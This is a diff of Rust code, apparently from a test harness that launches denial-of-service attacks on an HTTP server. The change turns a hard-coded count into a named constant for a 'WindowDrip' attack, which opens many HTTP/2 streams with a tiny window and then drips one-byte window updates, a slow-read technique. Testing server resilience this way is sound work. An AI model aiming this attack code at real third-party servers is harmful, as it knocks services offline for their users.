@@ -72,6 +72,8 @@ pub(super) const ATTACKS: [Attack; 18] = [
 
 /// The smallest request of HTTP/1.1.
 pub(super) const PIPELINED: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n";
+/// Streams on each connection of [`Attack::WindowDrip`].
+const DRIPPING: u32 = 100;
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 /// GET, http, /, authority `x`, from the static table where it has them (RFC 7541 appendix A).
 const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'x'];
@@ -118,6 +120,11 @@ impl Attack {
                 | Self::ConnectionFlood
                 | Self::SlowReader
         )
+    }
+
+    /// How many streams each of its connections keeps open.
+    pub(super) const fn streams(self) -> u32 {
+        if matches!(self, Self::WindowDrip) { DRIPPING } else { 0 }
     }
 
     /// Where the answers are what floods, they stay unread.
@@ -223,9 +230,11 @@ pub(super) fn attack(attack: Attack, address: SocketAddr, time: Duration) -> Res
         Attack::WindowDrip => {
             let settings = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
             let requests =
-                (0..100).flat_map(|at| frame(1, END_STREAM | END_HEADERS, 2 * at + 1, GET));
+                (0..DRIPPING).flat_map(|at| frame(1, END_STREAM | END_HEADERS, 2 * at + 1, GET));
             let begun = [PREFACE, &settings, &requests.collect::<Vec<_>>()].concat();
-            keep(to, &mut sent, &begun, |turn| frame(8, 0, 2 * (turn % 100) + 1, &[0, 0, 0, 1]));
+            keep(to, &mut sent, &begun, |turn| {
+                frame(8, 0, 2 * (turn % DRIPPING) + 1, &[0, 0, 0, 1])
+            });
         }
         Attack::ConnectionFlood => {
             let mut held = Vec::new();
